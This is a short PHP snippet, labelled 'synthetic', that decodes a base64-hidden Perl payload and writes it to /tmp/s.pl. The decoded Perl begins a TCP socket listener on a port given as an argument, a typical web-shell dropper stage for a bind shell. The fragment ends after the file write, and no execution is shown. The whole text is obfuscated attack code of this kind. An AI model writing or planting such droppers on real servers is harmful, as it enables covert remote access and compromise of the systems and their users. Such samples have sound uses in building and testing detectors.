<?php
// synthetic: a Perl listener (no shebang) written from base64
$p = "dXNlIFNvY2tldDsKJHBvcnQgPSAkQVJHVlswXTsKc29ja2V0KFMsIFBGX0lORVQsIFNPQ0tfU1RSRUFNLCBnZXRwcm90b2J5bmFtZSgidGNwIikpOwo=";
$h = fopen('/tmp/s.pl', 'w');
fwrite($h, base64_decode($p));
